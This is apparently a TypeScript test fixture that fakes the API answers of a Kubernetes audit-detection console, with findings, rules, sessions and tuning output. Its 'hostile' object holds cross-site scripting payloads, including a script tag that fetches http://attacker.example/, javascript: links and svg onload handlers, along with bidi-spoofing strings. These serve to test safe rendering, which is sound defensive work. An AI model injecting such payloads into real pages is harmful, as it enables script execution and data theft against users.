/** The answers of the fake sidecar in the page's tests: findings of an ordinary day, and names as an attacker would choose
 * them. */
import type {
  FindingPage,
  FindingRow,
  Now,
  RuleRow,
  Session,
  SummaryPart,
  Tune,
  WhyNot,
} from '../../../src/console/api.ts';
import type { Level, Platform } from '../../../src/record.ts';
import type { Explanation } from '../../../src/sigma/index.ts';

/** Now, to the minute. */
export const at = Math.floor(Date.now() / 60_000) * 60_000;
const iso = (time: number) => new Date(time).toISOString().replace('.000Z', 'Z');

/** Names that would have an effect if any of them were read as HTML, as a link, or as the surrounding text. */
export const hostile = {
  html: '<img src=x onerror=alert(1)><script>fetch("http://attacker.example/")</script>',
  link: 'javascript:alert(document.domain)',
  bidi: 'eve\u202enimda\u2066\u200b',
  brackets: '] created pod [kube-system/x',
  account: 'sa shop:checkout',
  long: `a${'/very-long-name'.repeat(400)}`,
  marks: `z${'\u0316\u0317\u0318\u0319'.repeat(40)}`,
  quotes: '"><svg onload=alert(2)>',
};

interface Kind {
  rule: string;
  title: string;
  level: Level;
  mode?: 'live' | 'shadow' | 'off';
  attack: [tactic: string, technique: string][];
  verb: string;
  resource: string;
  words: [string, string];
}

export const kinds: Kind[] = [
  {
    rule: 'anonymous-request-allowed',
    title: 'Kubernetes Anonymous Request Allowed',
    level: 'critical',
    attack: [
      ['TA0001', 'T1190'],
      ['TA0001', 'T1078.001'],
    ],
    verb: 'get',
    resource: 'secrets',
    words: [' was allowed to get ', ''],
  },
  {
    rule: 'binding-cluster-admin',
    title: 'Kubernetes Subject Bound to Cluster Admin',
    level: 'high',
    attack: [
      ['TA0003', 'T1098.006'],
      ['TA0003', 'T1078.004'],
    ],
    verb: 'create',
    resource: 'clusterrolebindings',
    words: [' bound a subject to cluster-admin by ', ' (create)'],
  },
  {
    rule: 'secret-read-scripting-client',
    title: 'Kubernetes Secret Read by Script',
    level: 'high',
    attack: [['TA0006', 'T1552.007']],
    verb: 'get',
    resource: 'secrets',
    words: [' read Secret ', ' by curl'],
  },
  {
    rule: 'pod-host-pid',
    title: 'Kubernetes Pod Using Host PID Namespace',
    level: 'medium',
    attack: [
      ['TA0004', 'T1611'],
      ['TA0002', 'T1610'],
    ],
    verb: 'create',
    resource: 'pods',
    words: [' created pod ', ' using the host PID namespace'],
  },
  {
    rule: 'pod-exec-shell-binary',
    title: 'Kubernetes Shell or Tool Run in Pod',
    level: 'medium',
    attack: [
      ['TA0002', 'T1609'],
      ['TA0007', 'T1613'],
    ],
    verb: 'create',
    resource: 'pods',
    words: [' ran a shell or tool in pod ', ''],
  },
  {
    rule: 'pod-hostpath',
    title: 'Kubernetes Pod With a Host Path Volume',
    level: 'low',
    attack: [['TA0004', 'T1611']],
    verb: 'create',
    resource: 'pods',
    words: [' created pod ', ' with host path /'],
  },
  {
    rule: 'request-unauthorized',
    title: 'Kubernetes Request Refused',
    level: 'informational',
    attack: [['TA0007', 'T1613']],
    verb: 'list',
    resource: 'secrets',
    words: [' was refused ', ''],
  },
  {
    rule: 'system-principal-from-public-ip',
    title: 'Kubernetes System Principal Used From a Public Address',
    level: 'high',
    mode: 'shadow',
    attack: [
      ['TA0001', 'T1190'],
      ['', 'T9999'],
    ],
    verb: 'get',
    resource: 'nodes',
    words: [' called from the public address for ', ''],
  },
];

const people = [
  ...['system:serviceaccount:shop:checkout', 'system:serviceaccount:profiling:agent', 'dev-7@example.com'],
  ...['system:serviceaccount:backup:node-agent', 'system:anonymous', 'system:node:ip-10-0-3-17'],
];
const objects = [
  'shop/node-debug-7c',
  'profiling/perf-agent-k2x8d',
  'frontend/web-6d5f',
  'kube-system/coredns',
  'payments/card-gateway',
];
const clusters: Record<Platform, string> = {
  kubernetes: 'lab-1',
  eks: 'orchid-prod',
  aks: 'fern-stage',
  gke: 'cedar-prod',
  openshift: 'basalt',
};
const platforms = Object.keys(clusters) as Platform[];

export function rowOf(index: number, over: { username?: string; object?: string; age?: number } = {}): FindingRow {
  const kind = kinds[[0, 3, 1, 4, 3, 5, 7, 2, 3, 6, 4, 3][index % 12]!]!;
  const username =
    over.username ?? (kind.rule === 'anonymous-request-allowed' ? 'system:anonymous' : people[(index * 5) % 4]!);
  const object = over.object ?? objects[(index * 7) % objects.length]!;
  const [namespace, name] = object.includes('/') && over.object === undefined ? object.split('/') : ['lab', object];
  const platform = platforms[(index * 3) % 5]!;
  const time = iso(at - (over.age ?? 94_000 + index * 157_000));
  const [before, after] = kind.words;
  const parts: SummaryPart[] = [
    '',
    { field: 'username', value: username },
    before,
    { field: 'name', value: object },
    after,
  ];
  return {
    id: `${(index + 4096).toString(16)}f${'0123456789ab'.repeat(4)}`.slice(0, 32),
    kind: 'finding',
    rule: kind.rule,
    title: kind.title,
    level: kind.level,
    mode: kind.mode === 'shadow' ? 'shadow' : 'live',
    summary: parts.map((part) => (typeof part === 'string' ? part : part.value)).join(''),
    parts,
    time,
    received: time,
    event: {
      auditID: `7dabc8d4-5b1e-4c2a-9d10-${String(index).padStart(12, '0')}`,
      ...{
        time,
        stage: 'ResponseComplete',
        outcome: 'success',
        verb: kind.verb,
        resource: kind.resource,
        subresource: '',
      },
      ...{
        namespace: namespace!,
        name: name!,
        username,
        sourceIPs: ['203.0.113.77'],
        userAgent: 'kubectl/v1.33.1 (linux/amd64)',
      },
      ...{ requestURI: `/api/v1/namespaces/${namespace}/${kind.resource}`, responseStatus: { code: 201 } },
    },
    platform,
    cluster: clusters[platform],
    workload: kind.resource === 'pods' ? `${namespace}/Deployment/${name}` : null,
    attack: kind.attack.map(([tactic, technique]) => (tactic === '' ? { technique } : { tactic, technique })),
    evidence: 'full',
    novelty: index % 4 === 0 ? { times: 0, since: null } : { times: index * 3, since: '2026-11-02T08:00:00Z' },
    owner: null,
  };
}

/** Rows with a hostile name each, newest first. */
export const hostileRows = Object.values(hostile).map((name, index) =>
  rowOf(9000 + index, { username: name, object: name, age: 1000 * (index + 1) }),
);

export function rowsOf(length: number): FindingRow[] {
  return Array.from({ length }, (_, index) => rowOf(index));
}

const predicate = (
  field: string,
  expected: string,
  truth: boolean | 'unknown',
  values: unknown[],
  gap?: string,
): Explanation => ({
  kind: 'predicate',
  ...{ truth, field, negated: false, expected, values, passing: truth === true ? values : [] },
  ...(gap === undefined ? {} : { gap }),
});

export function explanationOf(truth: boolean | 'unknown', value = 'create'): Explanation {
  const created: Explanation = {
    ...{ kind: 'selection', name: 'created', truth: true },
    operands: [predicate('verb', "'create'", true, [value]), predicate('subresource', "''", true, [''])],
  };
  const hostPid: Explanation = {
    ...{ kind: 'selection', name: 'host_pid', truth },
    operands: [
      predicate('hostPID', 'true', truth, truth === 'unknown' ? [] : [truth], truth === 'unknown' ? 'cut' : undefined),
    ],
  };
  const dryRun: Explanation = {
    ...{ kind: 'not', truth: true },
    operands: [
      { kind: 'selection', name: 'dry_run', truth: false, operands: [predicate('dryRun', 'true', false, [false])] },
    ],
  };
  const block: Explanation = {
    ...{ kind: 'block', field: 'object.spec.containers', truth: true },
    operands: [predicate('image', "'*'", true, ['images.example/app:1', hostile.html])],
  };
  return { kind: 'and', truth, operands: [created, hostPid, dryRun, { kind: 'or', truth: true, operands: [block] }] };
}

export function pageOf(row: FindingRow, rows: readonly FindingRow[]): FindingPage {
  const { id, rule, title, level, summary, attack, event } = row;
  const finding = {
    ...{ id, rule, title, level, summary, attack, matched: [], event: 0 },
    context: [{ field: 'object.spec.hostPID', values: ['true'] }],
  };
  const tag = { v: 2, verdict: 'match', level, rules: [rule], platform: row.platform, findings: [finding] };
  const before = JSON.stringify({
    kind: 'Event',
    auditID: event!.auditID,
    user: { username: event!.username },
    verb: event!.verb,
    big: 12345678901234567890n.toString(),
  }).slice(0, -1);
  const member = `,"tripline":${JSON.stringify(tag)}`;
  const bytes = Buffer.from(`${before}${member}}`);
  const start = Buffer.byteLength(before);
  return {
    ...row,
    finding,
    about: {
      description:
        'A pod was created that shares the process namespace of its node.\n\nWhat counts is that the pod came into being.',
      falsepositives: ['Node agents that have to see processes', 'Debugging of a node by its administrators'],
      references: ['https://kubernetes.io/docs/concepts/security/pod-security-standards/'],
      path: `rules/kubernetes/${rule}.yml`,
    },
    record: bytes.toString('base64'),
    mediaType: 'application/json',
    tag: { start, end: start + Buffer.byteLength(member) },
    normalized: null,
    explanation: explanationOf(true, event!.name),
    fluentTag: 'kube.audit',
    line: rows
      .filter((other) => other.event?.username === event!.username)
      .slice(0, 20)
      .toReversed(),
  };
}

export const session: Session = {
  version: '0.1.0',
  started: iso(at - 6.2 * 86400_000),
  ruleset: '036d035a1037b21c8842ad3f',
  credential: null,
  mayWrite: false,
  writeDenied: 'console.mayWriteExceptions is off, and the folder of exceptions is mounted read-only.',
  ring: {
    findings: {
      held: 42,
      bytes: 412_000,
      maxBytes: 16 * 1024 * 1024,
      oldest: iso(at - 5 * 3600_000),
      completeSince: null,
    },
    records: null,
  },
};

const wave = (base: number, index: number) =>
  Math.max(0, base * (1 + Math.sin(index / 5) * 0.08) - (index > 48 ? base * 0.1 : 0));

export function nowOf(rows: readonly FindingRow[], isQuiet = false): Now {
  const rates = { match: 0.6, indeterminate: 10, error: 0, clear: 947, not_audit: 61 };
  const bins = new Map<string, { from: string; level: Level; mode: 'live' | 'shadow'; count: number }>();
  for (const { level, mode, received } of rows) {
    const from = iso(Math.floor(Date.parse(received) / 60_000) * 60_000);
    const key = `${from} ${level} ${mode}`;
    const bin = bins.get(key) ?? { from, level, mode, count: 0 };
    bin.count++;
    bins.set(key, bin);
  }
  return {
    at: iso(at),
    ruleset: session.ruleset,
    rules: 111,
    correlations: 12,
    rulesSince: iso(at - 2150_000),
    ...(isQuiet ? {} : { refused: { since: iso(at - 500_000), files: ['my-rules/pod-in-default.yml'] } }),
    records: platforms.flatMap((platform, place) =>
      Object.entries(rates).map(([verdict, rate]) => ({
        platform,
        verdict: verdict as 'match',
        perSecond: Array.from({ length: 60 }, (_, index) => Math.round(wave((rate / 5) * (place + 0.5), index))),
        total: Math.round(rate * 4200 * (place + 1)),
      })),
    ),
    findings: [...bins.values()],
    silenced: Array.from({ length: 14 }, (_, index) => ({
      from: iso(at - index * 240_000 - 60_000),
      count: 1 + (index % 3),
    })),
    lag: { p50: 0.7, p99: 1.8 },
    sinks: [
      {
        name: 'forward',
        type: 'forward',
        sent: 4_310_021,
        failed: 0,
        setAside: 0,
        spool: { entries: 0, bytes: 0, oldestSeconds: 0 },
        isDown: false,
      },
      {
        name: 'oncall',
        type: 'webhook',
        sent: 812,
        failed: isQuiet ? 0 : 3,
        setAside: 0,
        spool: null,
        isDown: !isQuiet,
      },
    ],
    problems: isQuiet
      ? []
      : [
          {
            code: 'rules.refused',
            message: 'my-rules/pod-in-default.yml:14: the condition names selektion, which is not there.',
            remedy: 'Correct the file; the previous set stays live.',
            since: iso(at - 500_000),
          },
          {
            code: 'sink.down',
            message: `oncall does not answer: ${hostile.html}`,
            remedy: 'See whether its host is there.',
            since: iso(at - 90_000),
          },
        ],
  };
}

export const rules: RuleRow[] = Array.from({ length: 124 }, (_, index) => {
  const kind = kinds[index % kinds.length]!;
  return {
    name: index < kinds.length ? kind.rule : `${kind.rule}-${index}`,
    kind: index % 11 === 10 ? 'correlation' : 'rule',
    title: kind.title,
    description: 'What it is about, in a sentence or two.\n\nAnd when it is harmless.',
    level: kind.level,
    mode: kind.mode ?? (index % 13 === 12 ? 'off' : 'live'),
    hits: index < kinds.length ? (index * 37) % 90 : 0,
    silenced: index % 9 === 3 ? 48 : 0,
    undecided: index % 7 === 2 ? 12 : 0,
    lastHit: index < kinds.length ? iso(at - index * 400_000) : null,
    costMicros: null,
    decidable: {
      kubernetes: 'yes',
      eks: 'yes',
      aks: index % 3 === 0 ? 'partly' : 'yes',
      gke: index % 5 === 0 ? 'no' : 'partly',
      openshift: 'yes',
    },
    attack: kind.attack.map(([tactic, technique]) => (tactic === '' ? { technique } : { tactic, technique })),
    path: `rules/kubernetes/${kind.rule}.yml`,
  };
});

export function whyNot(): WhyNot {
  const answers = ['matches', 'undecided', 'silenced', 'ignores'] as const;
  return {
    verdict: 'match',
    events: [{ about: `create pods ${hostile.quotes} by ${hostile.bidi}`, event: rowOf(3).event!, isAnswered: true }],
    rules: rules.map(({ name, title, level, mode }, index) => {
      const answer = index < 4 ? answers[index]! : 'ignores';
      const truth = { matches: true, undecided: 'unknown', silenced: true, ignores: false } as const;
      return {
        ...{ event: 0, rule: name, title, level, mode: mode === 'off' ? 'live' : mode, answer },
        explanation: explanationOf(truth[answer]),
        ...(answer === 'silenced' ? { silencedBy: 'metallb' } : {}),
      };
    }),
  };
}

export function tuneOf(row: FindingRow, by: readonly string[] | undefined, rows: readonly FindingRow[]): Tune {
  const { event, rule } = row;
  const candidates: [field: string, value: string, weak: string | null][] = [
    ['username', event!.username!, null],
    ['verb', event!.verb!, null],
    ['namespace', event!.namespace!, null],
    ['sourceIPs', event!.sourceIPs![0]!, 'all but the last hop can be forged by the client'],
    ['name', event!.name!, 'chosen by whoever writes the object'],
    ['userAgent', event!.userAgent!, 'the client chooses this'],
  ];
  const chosen = by ?? ['username', 'namespace'];
  const ofRule = rows.filter((other) => other.rule === rule);
  const gone = chosen.includes('username')
    ? ofRule.filter((other) => other.event?.username === event!.username)
    : ofRule;
  const others = gone.filter((other) => other.event?.username !== event!.username);
  return {
    yaml: `title: ${JSON.stringify(`${rule} by ${event!.username}`)}\ndescription: |\n  Say why it is right.\nlogsource:\n  product: kubernetes\n  service: audit\nfilter:\n  rules: [${rule}]\n  known:\n    username|cased: ${JSON.stringify(event!.username)}\n  condition: not known # what has to hold for a match to stay\n`,
    name: 'profiling-agent.yml',
    rule,
    fields: candidates.map(([field, value, weak]) => ({
      field,
      values: [value],
      isChosen: chosen.includes(field),
      weak,
    })),
    silences: { of: ofRule.length, ids: gone.map(({ id }) => id), otherIdentities: others.length, undecided: [] },
    cases: [
      ...['seed: EKS, by a person', 'AKS, the event as text', 'GKE, by a service account'].map((name, index) => ({
        ...{ name, want: 'matches', before: 'matches' },
        answer: index === 0 && !chosen.includes('username') ? 'ignores' : 'matches',
      })),
      { name: 'a dry run', want: 'ignores', answer: 'ignores', before: 'ignores' },
    ],
    warnings: chosen.includes('name') ? [{ code: 'weak', message: `The name ${hostile.bidi} can be chosen.` }] : [],
    mayWrite: session.mayWrite,
    writeDenied: session.writeDenied,
  };
}
